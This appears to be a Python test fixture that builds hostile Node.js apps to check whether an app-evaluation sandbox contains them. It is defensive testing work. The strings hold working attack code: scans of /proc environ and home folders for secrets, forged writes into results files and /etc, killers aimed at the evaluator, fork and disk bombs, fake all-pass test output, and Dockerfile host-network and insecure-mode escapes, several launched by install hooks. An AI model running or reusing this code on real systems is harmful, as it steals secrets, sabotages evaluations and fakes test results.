"""The attacks of apps: what each does is in its files, what must come of it in `test_fleet.py` and `test_images.py`.

Every attack bounds itself: 300 processes, 1 GB and 60 s at most. An attack that could reach this machine where a sandbox
has no namespaces (`NAMESPACES`) is left out there.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

from tests.conformance.hostile.apps import BUILD, DOCKERFILE, SERVER, Files, app


@dataclass(frozen=True, slots=True)
class Aims:
    """What attacks aim at. `word` is in the command line of the evaluation and of nobody else but a decoy."""

    word: str
    home: Path
    apps: Path
    run_dir: Path
    temporary: Path
    door: int
    fixed_port: int


#: Looks everywhere for what looks like a canary, says what it found, and tries to write where it must not.
SNOOP = r"""
const fs = require("node:fs"), path = require("node:path"), os = require("node:os");
const aims = JSON.parse(fs.readFileSync(path.join(__dirname, "aims.json"), "utf8"));
const found = new Set(), wrote = [];
function look(where, read) {
  try { for (const one of String(read()).match(/appeval-canary-[0-9a-f]{24}/g) || []) found.add(where + " " + one); } catch {}
}
function walk(folder, depth) {
  let entries = [];
  try { entries = fs.readdirSync(folder, { withFileTypes: true }).slice(0, 300); } catch {}
  for (const entry of entries) {
    const place = path.join(folder, entry.name);
    if (place.startsWith(__dirname) || entry.name === "node_modules") continue;
    if (entry.isDirectory() && depth > 0) walk(place, depth - 1);
    else if (/canary|\.env$|server\.js$/.test(entry.name)) look(place, () => fs.readFileSync(place));
  }
}
look("environment", () => JSON.stringify(process.env));
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  look("environ of " + pid, () => fs.readFileSync(`/proc/${pid}/environ`));
  look("command of " + pid, () => fs.readFileSync(`/proc/${pid}/cmdline`));
  for (const place of aims.read) look(`root of ${pid}`, () => fs.readFileSync(`/proc/${pid}/root${place}`));
}
for (const place of [...aims.read, "leak.txt", "deep/leak.txt"]) look(place, () => fs.readFileSync(path.resolve(__dirname, place)));
for (const place of [os.homedir(), ...aims.folders, path.join(__dirname, "..", "..")]) walk(place, 4);
for (const place of aims.write) {
  try {
    fs.mkdirSync(path.dirname(place), { recursive: true });
    fs.appendFileSync(place, "forged");
    wrote.push(place);
  } catch {}
}
const own = fs.readFileSync(path.join(__dirname, "own.txt"), "utf8").trim();
exports.said = `snooped ${process.argv[2] || "server"}: own=${own} found=${[...found].join("; ")}`;
console.log(exports.said);
"""
#: Ends by name and by parentage whatever it can, the evaluation and a decoy above all, then its own group.
KILLER = r"""
const fs = require("node:fs");
const aims = JSON.parse(fs.readFileSync("aims.json", "utf8"));
let seen = 0;
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)).map(Number)) {
  seen += 1;
  try { if (fs.readFileSync(`/proc/${pid}/cmdline`, "utf8").includes(aims.word)) process.kill(pid, "SIGKILL"); } catch {}
}
console.log(`killer saw ${seen} processes`);
for (let pid = process.ppid, up = 0; pid > 1 && up < 20; up++) {
  const [, parent, group] = fs.readFileSync(`/proc/${pid}/stat`, "utf8").replace(/^.*\) /, "").split(" ").map(Number);
  try { process.kill(-group, "SIGKILL"); } catch {}
  pid = parent;
}
process.kill(0, "SIGKILL");
"""
FORKS = """
const { spawn } = require("node:child_process");
for (let i = 0; i < 300; i++) spawn("sleep", ["20"], { stdio: "ignore" }).on("error", () => {});
setTimeout(() => {}, 20000);
"""
#: A child in a session of its own, without our variables, that holds a port for a minute.
DAEMON = """
const { spawn } = require("node:child_process");
const program = "setTimeout(() => process.exit(), 60000); process.on('SIGTERM', () => {});"
  + "require('node:http').createServer((q, r) => r.end('thief')).listen(Number(process.argv[1]), '0.0.0.0')";
const environment = process.argv[3] === "bare" ? { PATH: process.env.PATH } : process.env;
spawn(process.execPath, ["-e", program, process.argv[2], "%s"], { detached: true, stdio: "ignore", env: environment }).unref();
setTimeout(() => {}, 500);
"""
WRITES = """
const fs = require("node:fs");
const block = Buffer.alloc(5e6, 1);
fs.mkdirSync("dist", { recursive: true });
for (let i = 0; i < 180; i++) fs.writeFileSync(`dist/${i}.js`, block);
setTimeout(() => {}, 10000);
"""
ENDLESS = (
    "const end = Date.now() + 60000; const line = 'x'.repeat(9999) + '\\n';\n"
    "(function talk() { if (Date.now() < end) process.stdout.write(line, () => setImmediate(talk)); })();\n"
)
STUBBORN = """
process.on("SIGTERM", () => {});
setTimeout(() => process.exit(), 60000);
const generation = "if (Number(process.argv[1]) < 200) setTimeout(() => { require('node:child_process')"
  + ".spawn(process.execPath, [...process.execArgv, String(Number(process.argv[1]) + 1), '%s'], { detached: true, stdio: 'ignore' }); process.exit(); }, 20);"
  + "process.on('SIGTERM', () => {});";
require("node:child_process").spawn(process.execPath, ["-e", generation, "0", "%s"], { detached: true, stdio: "ignore" }).unref();
"""
FAKE_SUMMARY = """
console.log("TAP version 13\\n1..40\\n# tests 40\\n# pass 40\\n# fail 0");
console.log("Tests:       40 passed, 40 total\\nTest Suites: 4 passed, 4 total");
"""
EARLY = 'const test = require("node:test");\ntest("never told", () => process.exit(0));\ntest("fails", () => { throw 1; });\n'
HOG = "const held = [];\nsetInterval(() => { if (held.length < 20) held.push(Buffer.alloc(5e7, 1)); }, 10);\nsetTimeout(() => process.exit(), 60000);\n"
NASTY = '\\u001b[31m<script>alert(\\"hostile\\")</script>\\u001b[2J\\u001b]0;title\\u0007|`*_</td>'
DEEP_AT_RUN_TIME = 'process.chdir(require("node:os").tmpdir()); for (let i = 0; i < 40; i++) { require("node:fs").mkdirSync("d".repeat(200)); process.chdir("d".repeat(200)); }\n'
SPINS = "<script>alert(1); const end = Date.now() + 25000; while (Date.now() < end) {}</script>"
#: Asks a service at the first address of its network, where this machine is.
GATEWAY = r"""
for (const own of Object.values(require("node:os").networkInterfaces()).flat()) {
  if (own.family !== "IPv4" || own.internal) continue;
  const host = own.address.replace(/\d+$/, "1");
  console.log("knocks at " + host);
  require("node:http").get({ host, port: %d, path: "/gateway" }, () => {}).on("error", () => {});
}
"""
IMPOSTOR = """
const server = require("node:http").createServer((q, r) => r.end("impostor"));
server.listen(Number(process.env.PORT), "0.0.0.0", () => {
  const child = require("node:child_process").spawn(process.execPath, ["server.js"], { stdio: "inherit" });
  child.on("exit", (code) => process.exit(code));
});
setTimeout(() => process.exit(), 60000);
"""


def everywhere(aims: Aims) -> dict[str, Files]:
    """Attacks that are bounded by limits alone."""
    word = aims.word
    return {
        "honest": app("honest", dockerfile=DOCKERFILE),
        "forks": app("forks", scripts={"test": "node forks.js"}, files={"forks.js": FORKS}),
        "writes": app("writes", files={"build.js": WRITES}),
        "hangs": app("hangs", scripts={"test": "node endless.js"},
                     files={"endless.js": ENDLESS + "setTimeout(() => {}, 60000);\n", "server.js": ENDLESS + SERVER}),
        "stubborn": app("stubborn", files={"server.js": (STUBBORN % (word, word)) + SERVER.replace('process.on("SIGTERM", () => process.exit(0));', "")}),
        "thief": app("thief", scripts={
            "postinstall": f"node daemon.js {aims.fixed_port} ours", "test": f"node daemon.js {aims.fixed_port} bare",
        }, files={"daemon.js": DAEMON % word, "server.js": SERVER.replace("Number(process.env.PORT || 8000)", str(aims.fixed_port))}),
        "impostor": app("impostor", scripts={"start": "exec node impostor.js"}, files={"impostor.js": IMPOSTOR, "server.js": SERVER}),
        "liar": app("liar", scripts={"build": "true", "test": "node fake.js"},
                    files={"fake.js": FAKE_SUMMARY, "dist/server.js": SERVER}),
        "early": app("early", files={"stock.test.js": EARLY}),
        "spins": app("spins", files={"server.js": SERVER.replace("<h1>", SPINS + "<h1>")}),
        "hog": app("hog", files={"server.js": HOG + SERVER}),
        "\x1b[31m<b>names|`": app("names", files={
            "stock.test.js": f'require("node:test")("{NASTY}", () => {{ throw new Error("{NASTY}"); }});\n',
            "server.js": f'console.log("{NASTY}");\n' + SERVER, "build.js": BUILD + DEEP_AT_RUN_TIME,
        }),
    }  # fmt: skip


def with_namespaces(aims: Aims) -> dict[str, Files]:
    """Attacks on this machine, its user and the evaluation itself."""
    others = ["honest/own.txt", "honest/server.js"]
    targets = {
        "word": aims.word, "read": [str(aims.home), *(str(aims.apps / name) for name in others)],
        "folders": [str(aims.home.parent), str(aims.apps), str(aims.temporary), str(aims.run_dir)],
        "write": [
            str(aims.apps / "honest/forged.js"), str(aims.apps / "snoop/forged.js"), str(aims.home) + ".forged",
            *(str(aims.run_dir / name) for name in ("run.json", "results.jsonl", "summary.md", "forged.json")),
            *(str(aims.run_dir / "apps" / name / "evidence.json") for name in ("honest", "snoop")),
            str(aims.temporary / "forged"), "/usr/local/forged", "/etc/forged",
        ],
    }  # fmt: skip
    files = {"aims.json": json.dumps(targets), "own.txt": "control\n", "snoop.js": SNOOP}
    page = (
        SERVER.replace("Three apples", '${require("./snoop.js").said.replace(/</g, "")} Three apples')
        .replace('const page = "', "const page = `")
        .replace('</p>";', "</p>`;")
    )
    return {
        "snoop": app("snoop", scripts={
            "postinstall": "node snoop.js install", "build": "node snoop.js build && node build.js",
            "pretest": "node snoop.js test",
        }, files={**files, "server.js": page}, dockerfile=DOCKERFILE.replace("ENV NODE", "RUN node snoop.js image\nENV NODE")),
        "killer": app("killer", scripts={"test": "node killer.js", "pretest": "pkill -KILL -f '[p]ytest'; true"},
                      files={"killer.js": KILLER, "aims.json": json.dumps({"word": aims.word})}),
    }  # fmt: skip


def by_dockerfile(aims: Aims) -> dict[str, Files]:
    """Attacks on the engine, and through it on this machine."""
    here = f"127.0.0.1:{aims.door}"
    fills = f": {aims.word}; for i in $(seq 40); do head -c 25000000 /dev/zero > /filled-$i || exit 1; done"
    everyone = "0.0.0.0"  # noqa: S104 - what an honest server listens on
    return {
        "host-network": _built("host-network", f"RUN --network=host node -e \"fetch('http://{here}/host-network')\""),
        "insecure": _built("insecure", "RUN --security=insecure mount"),
        "adds-here": _built("adds-here", f"ARG WHERE=127.0.0.1\nADD http://${{WHERE}}:{aims.door}/added /x"),
        "from-here": app("from-here", dockerfile=f"FROM {here}/evil\nCMD [\"true\"]\n"),
        "copies-here": _built("copies-here", f"COPY --from={here}/copied /x /x"),
        "frontend-here": app("frontend-here", dockerfile=f"# syntax={here}/frontend\n{DOCKERFILE}"),
        "adds-nowhere": _built("adds-nowhere", "ADD http://no-such-host.invalid/x /x"),
        "image-fills": _built("image-fills", f"RUN {fills}"),
        "loopback": app("loopback", dockerfile=DOCKERFILE, files={"server.js": SERVER.replace(everyone, "127.0.0.1")}),
        "gateway": app("gateway", dockerfile=DOCKERFILE, files={"server.js": GATEWAY % aims.door + SERVER}),
    }  # fmt: skip


def _built(name: str, line: str) -> Files:
    return app(name, dockerfile=DOCKERFILE.replace("COPY . .", f"COPY . .\n{line}"))
